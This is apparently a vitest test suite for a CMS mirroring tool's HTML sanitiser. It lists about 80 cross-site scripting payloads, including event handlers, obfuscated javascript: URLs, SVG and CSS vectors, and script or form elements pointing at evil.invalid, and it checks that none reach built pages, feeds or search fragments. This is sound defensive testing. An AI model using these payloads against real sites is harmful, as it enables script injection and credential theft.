/**
 * Hostile suite, content: executable content in post and page bodies never reaches the built
 * site (pages, feed.xml, search index) while `transform.sanitize` is on (the default), and the
 * markup people write passes byte for byte. Each payload carries the marker `xss`.
 */
import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { join, relative } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { createHtmlProcessor, processHtml } from '../../src/transform/process-html.js';
import { createUrlResolver } from '../../src/transform/url-resolver.js';
import { listFiles } from '../helpers/bad-input-harness.js';
import { useSharedSiteAndCache } from '../helpers/mirror-fixture.js';
import { apiUrl, type ReferenceSite } from '../helpers/reference.js';
import { runCliCaptured } from '../helpers/run-cli.js';
import type { TempCache } from '../helpers/temp-cache.js';
import { findExecutable } from '../helpers/hostile/content-danger.js';

export const XSS_PAYLOADS: readonly string[] = [
  '<script>xss(1)</script>',
  '<SCRIPT SRC=https://evil.invalid/xss.js></SCRIPT>',
  '<script type="module">import "https://evil.invalid/xss.js"</script>',
  '<script>/*</script><p title="*/xss()//">t</p>',
  '<p>x<script\n>xss()</script\n>y</p>',
  '<img src=x onerror=xss()>',
  '<img src="x" ONERROR="xss()">',
  '<img/src="x"/onerror=xss()>',
  '<body onload=xss()>',
  '<p onclick="xss()">click</p>',
  '<div onmouseover="xss()" class="cms-block-group">hover</div>',
  '<a href="https://example.org/" onfocus="xss()" autofocus>f</a>',
  '<details open ontoggle=xss()><summary>s</summary></details>',
  '<video src=x onerror=xss()></video>',
  '<audio src=x onerror=xss()></audio>',
  '<video><source onerror="xss()"></video>',
  '<input autofocus onfocus=xss()>',
  '<select autofocus onfocus=xss()><option>o</option></select>',
  '<textarea autofocus onfocus=xss()>t</textarea>',
  '<marquee onstart=xss()>m</marquee>',
  '<table background="javascript:xss()"><tr><td>t</td></tr></table>',
  '<a href="javascript:xss()">js</a>',
  '<a href="JaVaScRiPt:xss()">js</a>',
  '<a href="&#106;avascript:xss()">entity</a>',
  '<a href=" javascript:xss()">space</a>',
  '<a href="java\tscript:xss()">tab</a>',
  '<a href="vbscript:xss()">vb</a>',
  '<a href="data:text/html,<script>xss()</script>">data</a>',
  '<img src="data:image/svg+xml,<svg onload=xss()>">',
  '<img srcset="javascript:xss() 1x, https://example.org/a.png 2x">',
  '<iframe src="javascript:xss()"></iframe>',
  '<iframe srcdoc="<script>xss()</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>xss()</script>"></iframe>',
  '<iframe src="https://evil.invalid/xss"></iframe>',
  '<iframe src="http://www.youtube.com/embed/xss"></iframe>',
  '<iframe src="//www.youtube.com/embed/xss"></iframe>',
  '<frameset><frame src="https://evil.invalid/xss"></frameset>',
  '<object data="https://evil.invalid/xss.swf"></object>',
  '<object data="javascript:xss()"><param name="x" value="xss"></object>',
  '<embed src="https://evil.invalid/xss.swf">',
  '<embed src="javascript:xss()">',
  '<applet code="xss.class"></applet>',
  '<form action="https://evil.invalid/xss"><input name="password"><button>Log in</button></form>',
  '<form><button formaction="javascript:xss()">b</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/xss">',
  '<meta charset="xss-7">',
  '<base href="https://evil.invalid/xss/">',
  '<link rel="stylesheet" href="https://evil.invalid/xss.css">',
  '<link rel="import" href="https://evil.invalid/xss.html">',
  '<style>body{background:url("https://evil.invalid/xss")}</style>',
  '<style>@import "https://evil.invalid/xss.css";</style>',
  '<p style="background:url(javascript:xss())">s</p>',
  '<p style="width:expression(xss())">s</p>',
  '<p style="behavior:url(xss.htc)">s</p>',
  '<p style="-moz-binding:url(https://evil.invalid/xss.xml#x)">s</p>',
  '<p style="background:u\\72l(javascript:xss())">s</p>',
  '<p style="color:red;/*xss*/">s</p>',
  '<svg onload=xss()><circle r="1"/></svg>',
  '<svg><script>xss()</script></svg>',
  '<svg><a xlink:href="javascript:xss()"><text>t</text></a></svg>',
  '<svg><animate attributeName="href" to="javascript:xss()"/></svg>',
  '<svg><foreignObject><iframe srcdoc="xss"></iframe></foreignObject></svg>',
  '<math><mtext><script>xss()</script></mtext></math>',
  '<math href="javascript:xss()">m</math>',
  '<template><script>xss()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>',
  '<xmp><img src=x onerror=xss()></xmp>',
  '<noembed><img src=x onerror=xss()></noembed>',
  '<title>xss</title>',
  '<!--[if IE]><script>xss()</script><![endif]-->',
  '<!--><img src=x onerror=xss()>-->',
  '<isindex action="javascript:xss()" type=image>',
  '<button onclick="xss()">b</button>',
  '<custom-element onclick="xss()">c</custom-element>',
  '<p is="xss-element" onpointerenter="xss()">p</p>',
  '<a href="https://example.org/" ping="javascript:xss()">ping</a>',
  '<blockquote cite="javascript:xss()"><p>q</p></blockquote>',
  '<video poster="javascript:xss()" controls></video>',
  '<img src="https://example.org/a.png" onload="xss()" alt="a">',
  '<portal src="https://evil.invalid/xss"></portal>',
  '<dialog open onclose="xss()">d</dialog>',
];

/** Markup people write: must come out byte for byte as it went in. */
const SAFE_MARKUP: readonly string[] = [
  '<p class="has-text-align-center has-large-font-size" id="intro">Centred <strong>bold</strong> <em>em</em> <code>code</code></p>',
  '<h2 class="cms-block-heading" id="section-a">Heading</h2>',
  '<figure class="cms-block-image size-large"><img src="https://example.org/a.png" alt="A" width="800" height="600" srcset="https://example.org/a.png 800w, https://example.org/a-300.png 300w" sizes="(max-width: 800px) 100vw, 800px" class="cms-image-12"><figcaption class="cms-element-caption">Caption <a href="https://example.org/">link</a></figcaption></figure>',
  '<figure class="cms-block-table"><table class="has-fixed-layout"><thead><tr><th scope="col">A</th><th colspan="2">B</th></tr></thead><tbody><tr><td rowspan="2">1</td><td>2</td><td>3</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table><figcaption>Table</figcaption></figure>',
  '<figure class="cms-block-video"><video controls src="https://example.org/v.mp4" poster="https://example.org/p.jpg" preload="metadata" playsinline></video></figure>',
  '<figure class="cms-block-audio"><audio controls src="https://example.org/a.mp3"></audio><figcaption>Audio</figcaption></figure>',
  '<video controls width="640"><source src="https://example.org/v.webm" type="video/webm"><source src="https://example.org/v.mp4" type="video/mp4"><track src="https://example.org/v.vtt" kind="captions" srclang="pl" label="Polski"></video>',
  '<picture><source srcset="https://example.org/a.avif" type="image/avif" media="(min-width: 600px)"><img src="https://example.org/a.jpg" alt="p"></picture>',
  '<blockquote class="cms-block-quote" cite="https://example.org/"><p>Quote</p><cite>Someone</cite></blockquote>',
  '<ul class="cms-block-list"><li>One</li><li>Two<ol start="3" reversed><li value="5">Nested</li></ol></li></ul>',
  '<div class="cms-block-columns" data-layout="two" aria-label="Columns" role="group"><div class="cms-block-column" style="flex-basis:33.33%">Col</div></div>',
  '<p style="color:#cf2e2e;background-color:rgb(1, 2, 3)">Coloured</p>',
  '<div class="cover" style="background-image:url(https://example.org/bg.jpg);min-height:430px">Cover</div>',
  '<pre class="cms-block-code"><code lang="ts">const a = 1 &#x3C; 2;</code></pre>',
  '<details class="cms-block-details"><summary>More</summary><p>Hidden</p></details>',
  '<p><abbr title="HyperText">HTML</abbr> <time datetime="2024-03-01">1 March</time> <mark>m</mark> <sub>2</sub><sup>3</sup> <kbd>K</kbd> <s>s</s> <del datetime="2024-01-01">d</del><ins>i</ins> <q cite="https://example.org/">q</q></p>',
  '<dl><dt>Term</dt><dd>Definition</dd></dl>',
  '<hr class="cms-block-separator is-style-wide">',
  '<p lang="en" dir="ltr" title="t" hidden>hidden</p>',
  '<a href="https://example.org/file.pdf" download target="_blank" rel="noopener noreferrer" hreflang="en">PDF</a>',
  '<p>Line<br>break and <span class="highlight" data-note="n" aria-hidden="true">span</span></p>',
  '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" title="Video" allow="autoplay; encrypted-media" allowfullscreen loading="lazy"></iframe>',
  '<div itemscope itemtype="https://schema.org/Person"><span itemprop="name">Ann</span></div>',
  '<section id="s"><article><header>h</header><footer>f</footer></article><aside>a</aside></section>',
  '<p><img src="https://example.org/a.png" alt="" usemap="#m"></p><map name="m"><area href="https://example.org/" alt="a" shape="rect" coords="0, 0, 1, 1"></map>',
];

const processorFor = (sanitize: boolean) =>
  createHtmlProcessor({
    resolveLink: createUrlResolver([]),
    resolveMedia: createUrlResolver([]),
    lazyLoading: false,
    sanitize,
  });
const item = { baseUrl: 'https://example.org/pl/2024/01/post/', pagePath: '/2024/01/post/' };

describe('bodies are sanitised by default', () => {
  const processor = processorFor(true);

  it.each(XSS_PAYLOADS)('%s: nothing executable, the text around it intact', (payload) => {
    const html = `<p>before</p>\n${payload}\n<p>after</p>`;
    const out = processHtml(processor, html, item).html;
    expect(findExecutable(out)).toEqual([]);
    expect(out.startsWith('<p>before</p>\n')).toBe(true);
    // A parser without scripting reads the rest of the body into a broken <noscript>: it goes.
    if (!payload.startsWith('<noscript>')) expect(out.endsWith('\n<p>after</p>')).toBe(true);
    // Script text survives only as inert text of an attribute.
    expect(out.replace(/title="[^"]*"/g, '')).not.toMatch(/xss\(/);
  });

  it.each(SAFE_MARKUP)('%s: passes byte for byte', (markup) => {
    const out = processHtml(processor, markup, item);
    expect(out.html).toBe(markup);
    expect(out.warnings).toEqual([]);
  });

  it('one warning per item says what was removed', () => {
    const out = processHtml(
      processor,
      '<script>xss()</script><p onclick="xss()">a</p><script>xss()</script>',
      item,
    );
    expect(out.html).toBe('<p>a</p>');
    expect(out.warnings).toEqual([
      'Removed from the body (transform.sanitize): <script> ×2, event handler',
    ]);
  });

  it('keeps the text of an unwrapped form, drops its controls', () => {
    const out = processHtml(
      processor,
      '<form action="https://evil.invalid/"><p>Sign in</p><input name="pw"><button>Go</button></form>',
      item,
    );
    expect(out.html).toBe('<p>Sign in</p>Go');
  });
});

describe('transform.sanitize: false keeps the body as the site sent it', () => {
  const processor = processorFor(false);
  it.each([
    ['<script>xss(1)</script>', '<script>xss(1)</script>'],
    ['<p onclick="xss()">a</p>', '<p onclick="xss()">a</p>'],
    ['<form><input name="q"></form>', '<form><input name="q"></form>'],
    ['<svg><circle r="1"></circle></svg>', '<svg><circle r="1"></circle></svg>'],
  ])('%s', (input, expected) => {
    expect(processHtml(processor, input, item).html).toBe(expected);
  });
});

describe('the reference site content, end to end', () => {
  let site: ReferenceSite;
  let temp: TempCache;
  const SCRIPT_BODY = '<p>Kept paragraph</p><script>xss("body")</script><img src=x onerror=xss()>';

  const fixture = useSharedSiteAndCache({ hostile: true }, 'cms-mirror-content-');

  beforeAll(() => {
    ({ site, temp } = fixture);
    // Every payload in a post of its own, so the feed and the search index carry them too.
    for (const [index, payload] of XSS_PAYLOADS.entries()) {
      site.control.createItems('pl', 'posts', 1, {
        title: `Payload ${index}`,
        content: `<p>Payload ${index} text</p>${payload}`,
        slug: `payload-${index}`,
      });
    }
    site.control.createItems('pl', 'pages', 1, { title: 'Script page', content: SCRIPT_BODY });
  });

  it('every rich body of the seed transforms to the same bytes with and without sanitising', async () => {
    let bodies = 0;
    const on = processorFor(true);
    const off = processorFor(false);
    for (const lang of ['pl', 'es']) {
      for (const type of ['posts', 'pages']) {
        const items: { link: string; slug: string; content: { rendered: string } }[] = [];
        for (let page = 1; ; page += 1) {
          const response = await fetch(
            apiUrl(site, lang, `/cms/v2/${type}`, { per_page: 100, page }),
          );
          if (!response.ok) break;
          const batch = (await response.json()) as typeof items;
          items.push(...batch);
          if (batch.length < 100) break;
        }
        for (const entry of items) {
          if (/xss|alert/.test(entry.content.rendered)) continue; // the hostile ones
          const perItem = { baseUrl: entry.link, pagePath: '/x/' };
          const safe = processHtml(on, entry.content.rendered, perItem);
          expect(safe.html, `${lang} ${type} ${entry.slug}`).toBe(
            processHtml(off, entry.content.rendered, perItem).html,
          );
          expect(safe.warnings.filter((w) => w.includes('sanitize'))).toEqual([]);
          bodies += 1;
        }
      }
    }
    expect(bodies).toBeGreaterThanOrEqual(40);
  });

  it('pull + build: no page, feed or search fragment holds anything executable; sanitize: false brings it back', async () => {
    const out = join(temp.dir, 'out');
    const pipeline = join(temp.dir, 'p.yaml');
    const { writeFileSync } = await import('node:fs');
    writeFileSync(pipeline, 'http:\n  requestsPerSecond: 0\n');
    const base = ['--pipeline', pipeline, '--cache', temp.file];
    const pulled = await runCliCaptured(['pull', ...base, '--site', site.url, '--lang', 'pl'], {
      cwd: temp.dir,
    });
    // 3: the payloads' `<img src=x>` are media files the site does not have.
    expect([0, 3], pulled.stderr).toContain(pulled.code);
    const built = await runCliCaptured(['build', ...base, '--out', out], { cwd: temp.dir });
    expect(built.code, built.stderr).toBe(0);

    const files = listFiles(join(out, 'pl'));
    const pages = files.filter((file) => file.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(XSS_PAYLOADS.length);
    for (const file of pages) {
      expect(
        findExecutable(readFileSync(file, 'utf8'), { fragment: false }),
        relative(out, file),
      ).toEqual([]);
    }
    const feed = readFileSync(join(out, 'pl', 'feed.xml'), 'utf8');
    const contents = [...feed.matchAll(/<content type="html"[^>]*>([\s\S]*?)<\/content>/g)].map(
      (match) => unescapeXml(match[1] ?? ''),
    );
    expect(contents.length).toBeGreaterThan(5);
    for (const html of contents) expect(findExecutable(html)).toEqual([]);
    const fragments = files.filter(
      (file) => /pf_fragment/.test(file) || file.endsWith('.pf_fragment'),
    );
    expect(fragments.length).toBeGreaterThan(0);
    for (const file of fragments) {
      const text = gunzipSync(readFileSync(file)).toString('utf8');
      expect(text, relative(out, file)).not.toMatch(/<script|onerror=|xss\(/i);
    }
    const page = readFileSync(
      pages.find((file) => readFileSync(file, 'utf8').includes('Kept paragraph'))!,
      'utf8',
    );
    expect(page).toContain('<p>Kept paragraph</p>');

    // Turning sanitising off re-transforms the cached items without a pull.
    writeFileSync(pipeline, 'http:\n  requestsPerSecond: 0\ntransform:\n  sanitize: false\n');
    const unsafe = await runCliCaptured(['build', ...base, '--out', out], { cwd: temp.dir });
    expect(unsafe.code, unsafe.stderr).toBe(0);
    const first = pages.find((file) => file.includes('payload-0'));
    expect(first).toBeDefined();
    expect(readFileSync(first!, 'utf8')).toContain('<script>xss(1)</script>');
    expect(readFileSync(join(out, 'pl', 'feed.xml'), 'utf8')).toMatch(/ on[a-z]+=|&lt;script/);
  }, 240_000);
});

function unescapeXml(text: string): string {
  return text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');
}
